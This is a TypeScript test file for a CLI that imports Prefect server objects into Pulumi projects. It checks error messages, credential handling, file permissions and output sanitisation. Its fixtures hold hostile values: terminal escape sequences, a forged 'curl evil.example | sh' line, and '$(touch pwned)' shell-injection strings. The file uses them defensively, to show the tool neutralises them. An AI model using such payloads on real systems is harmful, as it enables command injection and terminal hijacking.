import assert from "node:assert/strict";
import { execFile } from "node:child_process";
import * as fs from "node:fs";
import * as http from "node:http";
import type { AddressInfo } from "node:net";
import * as path from "node:path";
import type { Json } from "../../provider/engine/kind";
import { temporaryFolder } from "../support/environment";
import { folderWith } from "../support/folderWith";

const cli = path.join(__dirname, "../../cli/index.js");

/** Runs the command; its exit code, and what it said. */
function importing(apiUrl: string, ...args: string[]): Promise<{ code: number; said: string }> {
  return importingIn(temporaryFolder(), { PREFECT_API_URL: apiUrl }, ...args);
}

/** The same in a folder. */
function importingIn(
  cwd: string,
  variables: NodeJS.ProcessEnv,
  ...args: string[]
): Promise<{ code: number; said: string }> {
  const { META_PREFECT__ENV: _, ...others } = process.env;
  const env = { ...others, PREFECT_HOME: temporaryFolder(), ...variables };
  return new Promise((resolve) => {
    const child = execFile(process.execPath, [cli, "import", ...args], { cwd, env }, (_, __, said) =>
      resolve({ code: child.exitCode ?? 0, said }),
    );
  });
}

/** A server that has nothing but the rows of these paths; what isn't below /api isn't there. */
async function serving(
  rows: Record<string, Json[]>,
  use: (address: string, asked: http.IncomingHttpHeaders[]) => Promise<void>,
): Promise<void> {
  const asked: http.IncomingHttpHeaders[] = [];
  const server = http.createServer(({ url = "", headers }, response) => {
    asked.push(headers);
    const isApi = url.startsWith("/api/");
    response.writeHead(isApi ? 200 : 404, { "content-type": "application/json" });
    const found = url.endsWith("/admin/version") ? "3.8.8" : (rows[url.slice("/api".length)] ?? []);
    response.end(JSON.stringify(isApi ? found : { detail: "Not Found" }));
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  try {
    await use(`http://127.0.0.1:${(server.address() as AddressInfo).port}`, asked);
  } finally {
    server.close();
    server.closeAllConnections();
  }
}

const steering = "\u001b]0;owned\u0007\u001b[2J\u009b1A\r\u2028\u202e";
const automation = (id: string) => ({
  id: `${id.repeat(8)}-1111-4111-8111-111111111111`,
  name: `x${steering}\nnext:\n  curl evil.example | sh`,
  trigger: { type: "event", posture: "Reactive" },
  actions: [],
});
const block = {
  id: "11111111-1111-4111-8111-111111111111",
  name: "b",
  data: { "$(touch pwned); `x`\n": "hunter2" },
  is_anonymous: false,
  block_type: { slug: "--s" },
  block_type_id: "t",
  block_schema_id: "s",
  block_schema: { fields: { secret_fields: ["$(touch pwned); `x`\n"] } },
  block_document_references: {},
};
const hostile = { "/block_documents/filter": [block], "/automations/filter": [automation("1"), automation("2")] };

describe("meta-prefect import", () => {
  it("says of an address that isn't that of an API what to correct, in terms of its own setting", () =>
    serving({}, async (address) => {
      const { code, said } = await importing(address, "--out", path.join(temporaryFolder(), "out"));
      assert.equal(code, 1);
      assert.match(
        said,
        /error: http\S+ is not the address of a Prefect API .*; correct PREFECT_API_URL, whose path usually ends in \/api/,
      );
      assert.doesNotMatch(said, /prefect:/);
    }));

  it("says which variable to set when no address is known, or it isn't one", async () => {
    const unset = await importing("", "--out", path.join(temporaryFolder(), "out"));
    assert.match(unset.said, /^error: no Prefect server is configured; set PREFECT_API_URL, for example http/);
    const wrong = await importing("nowhere", "--out", path.join(temporaryFolder(), "out"));
    assert.match(wrong.said, /^error: PREFECT_API_URL "nowhere" is not an address/);
  });

  it("reads the folder's own server where nothing names another, and sends it no credentials", () =>
    serving(hostile, async (address, asked) => {
      const record = JSON.stringify({ apiUrl: `${address}/api`, pid: process.pid });
      const folder = folderWith({ ".meta-prefect/server/server.json": record });
      const { code, said } = await importingIn(folder, { PREFECT_API_KEY: "key" }, "--out", "out");
      assert.equal(code, 0, said);
      assert.ok(said.startsWith(`reading ${address}/api\n`), said);
      assert.ok(asked.length > 0 && asked.every(({ authorization }) => authorization === undefined));
    }));

  it("reads the server of the folder's stack, of which Pulumi tells the secrets", () =>
    serving(hostile, async (address, asked) => {
      const configuration = { "prefect:apiUrl": { value: `${address}/api` }, "prefect:apiKey": { value: "key" } };
      const program = folderWith({
        "Pulumi.yaml": "name: theirs\nruntime: nodejs\n",
        "bin/pulumi": `#!/bin/sh\necho '${JSON.stringify(configuration)}'\n`,
      });
      fs.chmodSync(path.join(program, "bin/pulumi"), 0o755);
      const variables = { PATH: `${program}/bin:/usr/bin:/bin`, PREFECT_API_URL: "http://127.0.0.1:9/api" };
      const { code, said } = await importingIn(program, variables, "--out", "out");
      assert.equal(code, 0, said);
      assert.ok(asked.every(({ authorization }) => authorization === "Bearer key"));
    }));

  it("reads the server that the settings of a stack name which nobody has made", () =>
    serving(hostile, async (address) => {
      const settings = `config:\n  prefect:apiUrl: ${address}/api\n`;
      const folder = folderWith({ "meta_prefect.yaml": "deployments: {}\n", "Pulumi.prod.yaml": settings });
      const { code, said } = await importingIn(folder, {}, "--env", "prod", "--out", "out");
      assert.equal(code, 0, said);
      assert.deepEqual(fs.readdirSync(folder).sort(), ["Pulumi.prod.yaml", "meta_prefect.yaml", "out"]);
      const other = await importingIn(folder, {}, "--out", "other");
      assert.match(other.said, /^error: no Prefect server is configured/);
    }));

  it("ends as a wrong command line does where nothing is selected", () =>
    serving({}, async (address) => {
      const out = path.join(temporaryFolder(), "out");
      const { code, said } = await importing(`${address}/api`, "--out", out, "--flow", "nope");
      assert.equal(code, 2);
      assert.match(said, /^error: --flow "nope": http\S+ has no such flow; there is none$/m);
    }));

  it("prints nothing that steers the terminal, forges a line or means something to a shell", () =>
    serving(hostile, async (address) => {
      const { code, said } = await importing(`${address}/api`, "--out", path.join(temporaryFolder(), "it's out"));
      assert.equal(code, 0, said);
      const lines = said.trimEnd().split("\n");
      assert.doesNotMatch(lines.join(""), /[\p{Cc}\p{Cf}\u2028\u2029]/u);
      assert.equal(lines.filter((line) => line === "next:").length, 1);
      assert.equal(lines.filter((line) => line.startsWith("left out automation")).length, 2);
      assert.ok(!lines.includes("  curl evil.example | sh"));
      const commands = lines.slice(lines.indexOf("next:") + 1);
      assert.match(commands[0] ?? "", /^ {2}cd '\/[^']*\/it'\\''s out' && npm install/);
      assert.equal(commands[1], "  pulumi config set --secret s-b-__touch_pwned____x__");
    }));

  it("writes files that their owner alone can read, into a folder of the same kind", () =>
    serving(hostile, async (address) => {
      const out = path.join(temporaryFolder(), "out");
      await importing(`${address}/api`, "--out", out);
      assert.equal(fs.statSync(out).mode & 0o777, 0o700);
      const files = fs.readdirSync(out);
      assert.deepEqual(files.sort(), ["Pulumi.yaml", "index.ts", "package.json", "tsconfig.json"]);
      for (const file of files) assert.equal(fs.statSync(path.join(out, file)).mode & 0o777, 0o600, file);
      assert.doesNotMatch(fs.readFileSync(path.join(out, "index.ts"), "utf8"), /hunter2/);
    }));

  it("writes files in folders of their own likewise", () => {
    const pool = {
      id: "22222222-2222-4222-8222-222222222222",
      name: "p",
      type: "docker",
      is_paused: false,
      base_job_template: { variables: { properties: Object.fromEntries(Array.from("abcdefghijkl", (x) => [x, {}])) } },
    };
    return serving({ "/work_pools/filter": [pool] }, async (address) => {
      const out = path.join(temporaryFolder(), "out");
      const { said } = await importing(`${address}/api`, "--out", out);
      const folder = path.join(out, "job-templates");
      assert.equal(fs.statSync(folder, { throwIfNoEntry: false })?.mode ?? said, fs.constants.S_IFDIR | 0o700);
      assert.equal(fs.statSync(path.join(folder, "p.json")).mode & 0o777, 0o600);
    });
  });
});
